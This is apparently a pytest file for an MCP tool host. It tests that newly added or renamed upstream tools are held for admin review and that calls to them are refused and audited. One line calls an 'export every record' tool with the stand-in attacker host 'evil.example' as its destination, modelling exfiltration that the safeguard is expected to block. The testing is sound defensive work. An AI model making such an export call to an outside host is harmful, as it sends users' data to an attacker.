"""New and renamed tools of an already pinned server are held until an admin accepts them (by
default; ``toolhost.new_tools: "trusted"`` trusts them at once), on a live upstream whose tool list
grows and renames a tool while connected."""

from __future__ import annotations

import sys
from pathlib import Path

import anyio
import pytest

from host.access import AccessControl
from host.calls import ResultStatus
from host.config import parse_config
from host.runtime import HostRuntime
from registry.policy import Principal

pytestmark = pytest.mark.anyio

UPSTREAM = Path(__file__).with_name("growing_upstream.py")
ALICE = Principal("alice")


def _config(tmp_path: Path):
    return parse_config({"mcpServers": {"grow": {"command": sys.executable, "args": [str(UPSTREAM)]}}},
                        data_dir=tmp_path)


async def _change(rt: HostRuntime, then: str, expect: str) -> None:
    """Have the upstream change its tools; wait until the host relisted and shows ``expect``."""
    relisted = anyio.Event()
    unsubscribe = rt.registry.subscribe(
        lambda server, _old, new: relisted.set() if server == "grow" and any(
            t.qualified_name == expect for t in new) else None)
    try:
        assert (await rt.call("grow__ping", {"then": then}, ALICE)).status is ResultStatus.OK
        await relisted.wait()
    finally:
        unsubscribe()


def _names(rt: HostRuntime) -> list[str]:
    return [t.qualified_name for t in rt.visible_tools(ALICE)]


async def test_added_and_renamed_tools_are_held_until_accepted(tmp_path: Path, access: AccessControl) -> None:
    access.users.add("alice")
    access.grants.add("alice", "server:grow")
    with anyio.fail_after(60):
        async with HostRuntime(_config(tmp_path), data_dir=tmp_path, policy=access, auditor=access) as rt:
            unwatch = access.watch(rt.registry)
            assert [(p.tool, p.status) for p in access.pins.list()] == [
                ("grow__ping", "trusted"), ("grow__word_count", "trusted")]  # first seen: trusted

            await _change(rt, "add", "grow__export_all")
            assert [(p.tool, p.status) for p in access.pins.list(status="held")] == [("grow__export_all", "held")]
            assert _names(rt) == ["grow__ping", "grow__word_count"]
            held = await rt.call("grow__export_all", {"destination": "evil.example"}, ALICE)
            assert held.status is ResultStatus.UNKNOWN_TOOL
            review = access.pins.review("grow__export_all")
            assert '"destination"' in review.diff and "Export every record" in review.diff
            assert access.pins.accept("grow__export_all", review.pending_hash).status == "trusted"
            assert _names(rt) == ["grow__export_all", "grow__ping", "grow__word_count"]
            ran = await rt.call("grow__export_all", {"destination": "backup"}, ALICE)
            assert (ran.status, ran.content[0].text) == (ResultStatus.OK, "exported everything to backup")

            await _change(rt, "rename", "grow__count_words")
            assert [(p.tool, p.status) for p in access.pins.list(status="held")] == [("grow__count_words", "held")]
            assert _names(rt) == ["grow__export_all", "grow__ping"]  # word_count is gone, count_words held
            renamed = await rt.call("grow__count_words", {"text": "a b c"}, ALICE)
            assert renamed.status is ResultStatus.UNKNOWN_TOOL
            review = access.pins.review("grow__count_words")
            access.pins.accept("grow__count_words", review.pending_hash)
            counted = await rt.call("grow__count_words", {"text": "a b c"}, ALICE)
            assert (counted.status, counted.content[0].text) == (ResultStatus.OK, "3")
            unwatch()
    rows = access.audit_log.query(action="call", tool="grow__export_all")
    assert [(r.status, r.rule) for r in rows][-1][0] == "unknown_tool"  # the held call is audited as refused


async def test_new_tools_trusted_setting_trusts_them_at_once(tmp_path: Path, store_url: str) -> None:
    access = AccessControl.open(url=store_url, new_tools="trusted")
    try:
        access.users.add("alice")
        access.grants.add("alice", "server:grow")
        with anyio.fail_after(60):
            async with HostRuntime(_config(tmp_path), data_dir=tmp_path, policy=access) as rt:
                unwatch = access.watch(rt.registry)
                await _change(rt, "add", "grow__export_all")
                assert access.pins.list(status="held") == []
                ran = await rt.call("grow__export_all", {"destination": "backup"}, ALICE)
                assert ran.status is ResultStatus.OK
                unwatch()
    finally:
        access.close()


def test_the_config_setting_defaults_to_held(tmp_path: Path) -> None:
    assert parse_config({"mcpServers": {}}, data_dir=tmp_path).defaults.new_tools == "held"
    trusted = parse_config({"toolhost": {"new_tools": "trusted"}, "mcpServers": {}}, data_dir=tmp_path)
    assert trusted.defaults.new_tools == "trusted"
